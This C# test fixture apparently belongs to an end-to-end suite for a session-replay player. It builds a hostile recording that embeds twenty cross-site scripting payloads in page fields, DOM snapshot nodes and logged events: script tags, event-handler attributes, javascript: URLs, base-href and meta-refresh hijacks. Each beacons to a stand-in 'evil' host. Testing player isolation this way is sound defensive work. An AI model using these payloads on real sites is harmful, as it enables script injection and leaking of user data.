namespace Recount.EndToEndTests.Infrastructure;

/// <summary>A page that was recorded by somebody who wants to get out of the player.</summary>
internal static class HostileRecording
{
    public const int PayloadCount = 20;

    /// <summary>The entries of its only chunk.</summary>
    /// <param name="evil">Where scripts and beacons would come from and go to.</param>
    public static IEnumerable<object> At(Uri evil)
    {
        var payloads = Payloads(evil);
        yield return Entry(0, "page", new
        {
            url = payloads[0], title = payloads[1], referrer = payloads[2], viewport = new { width = 800, height = 600 },
            userAgent = payloads[1], opened = 1, ordinal = 0, person = payloads[1], sdk = "x", privacy = "open",
        });
        yield return Rrweb(1, 4, new { href = payloads[0], width = 800, height = 600 });
        yield return Rrweb(2, 2, new { node = Document(payloads, evil), initialOffset = new { left = 0, top = 0 } });
        for (var i = 0; i < payloads.Count; i++)
        {
            var (at, payload) = (10 + i, payloads[i]);
            yield return Entry(at, "click", new { text = payload, selector = payload, interactive = true, reaction = (int?)null });
            yield return Entry(at, "console", new { level = "error", arguments = new[] { payload } });
            yield return Entry(at, "error", new { name = payload, message = payload, stack = payload, fingerprint = payload });
            yield return Entry(at, "event", new { name = payload, properties = new Dictionary<string, string> { [payload] = payload } });
            yield return Entry(at, "navigation", new { url = payload });
            yield return Entry(at, "identify", new { id = payload, traits = new { name = payload } });
        }

        yield return Rrweb(600, 3, new
        {
            source = 0, texts = Array.Empty<object>(), removes = Array.Empty<object>(), attributes = Array.Empty<object>(),
            adds = payloads.Select((payload, i) => new { parentId = 4, nextId = (int?)null, node = Hostile(payload, evil, 5000 + (i * 20)) }),
        });
    }

    private static List<string> Payloads(Uri evil)
    {
        var run = $"globalThis.pwned=true;new Image().src='{evil}ran'";
        return
        [
            $"javascript:{run}", $"<script>{run}</script>", $"<img src=x onerror=\"{run}\">", $"\"><svg onload=\"{run}\">",
            $"';{run};//", $"</title><script>{run}</script>", $"<iframe src=\"javascript:{run}\"></iframe>", $"{evil}beacon",
            $"data:text/html,<script>{run}</script>", $"<meta http-equiv=refresh content=\"0;url={evil}\">",
            $"<link rel=prefetch href={evil}prefetch>", $"<base href={evil}>", $"<object data={evil}object></object>",
            $"<form action={evil}><button autofocus onfocus=\"{run}\">", $"<style>@import '{evil}import';</style>",
            $"<details open ontoggle=\"{run}\">", $"<a href=\"javascript:{run}\" ping={evil}>x</a>", $"${{{run}}}{{{{{run}}}}}",
            $"--><script>{run}</script>", $"<video src={evil}v poster={evil}p onerror=\"{run}\">",
        ];
    }

    private static object Document(List<string> payloads, Uri evil)
    {
        var still = Element(20, "p", new { }, [new { type = 3, id = 21, textContent = "still here" }]);
        object[] head =
        [
            Element(10, "base", new { href = evil }), Element(11, "link", new { rel = "preconnect", href = evil }),
            Element(12, "link", new { rel = "stylesheet", href = $"{evil}style.css" }),
            Element(13, "script", new { src = $"{evil}script.js" }),
            Element(14, "style", new { _cssText = $"@import url({evil}css); body {{ background: url({evil}body) }}" }),
        ];
        var nodes = payloads.Select((payload, i) => Hostile(payload, evil, 1000 + (i * 20)));
        var body = Element(4, "body", new { onload = payloads[0] }, [.. nodes, still]);
        return new
        {
            type = 0, id = 1,
            childNodes = new object[]
            {
                new { type = 1, id = 2, name = "html", publicId = "", systemId = "" },
                Element(3, "html", new { }, [Element(9, "head", new { }, head), body]),
            },
        };
    }

    private static object Hostile(string payload, Uri evil, int id) => Element(
        id,
        "div",
        new { onclick = payload, title = payload, style = $"background: url({evil}div)" },
        [
            new { type = 3, id = id + 1, textContent = payload },
            Element(id + 2, "a", new { href = payload, ping = evil }), Element(id + 3, "iframe", new { src = payload, srcdoc = payload }),
            Element(id + 4, "img", new { src = $"{evil}img", srcset = $"{evil}srcset 2x", onerror = payload }),
            Element(id + 5, "script", new { src = $"{evil}late" }), Element(id + 6, "input", new { value = payload, onfocus = payload, autofocus = "" }),
            Element(id + 7, "object", new { data = payload }), Element(id + 8, "video", new { src = $"{evil}video", autoplay = "" }),
        ]);

    private static object Element(int id, string tagName, object attributes, params object[] childNodes) =>
        new { type = 2, id, tagName, attributes, childNodes };

    private static object Rrweb(double at, int type, object data) => Entry(at, "rrweb", new { type, data, timestamp = at });

    private static object Entry(double at, string k, object d) => new { at, k, d };
}
